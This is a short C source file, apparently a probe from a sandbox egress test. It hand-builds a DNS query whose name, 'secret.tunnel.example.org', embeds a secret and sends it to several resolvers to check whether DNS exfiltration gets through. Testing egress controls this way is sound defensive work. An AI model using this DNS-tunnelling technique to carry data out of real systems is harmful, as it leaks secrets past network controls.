#include "attack.h"
#include "network.h"

static int attempt(const char *target, const char *workspace, const char *extra)
{
    /* A secret as a part of a name: whoever looks it up carries it out. */
    (void)target, (void)workspace;
    struct places at = places_of(extra);
    static const char question[] = "\0\1\1\0\0\1\0\0\0\0\0\0\6secret\6tunnel\7example\3org\0\0\1\0\1";
    struct sockaddr_in servers[] = {at.names, place("127.0.0.1", 53), place("127.0.0.53", 53)};
    for (int i = 0; i < 3; i++) {
        char reply[512] = {0};
        int socket_ = socket(AF_INET, SOCK_DGRAM, 0);
        struct pollfd event = {.fd = socket_, .events = POLLIN};
        if (connects(socket_, &servers[i]) && send(socket_, question, sizeof question - 1, 0) > 0 && poll(&event, 1, 200) == 1 &&
            recv(socket_, reply, sizeof reply, 0) > 12 && reply[7] > 0)
            return 1; /* somebody knew the name, and so has heard it */
    }
    return 0;
}
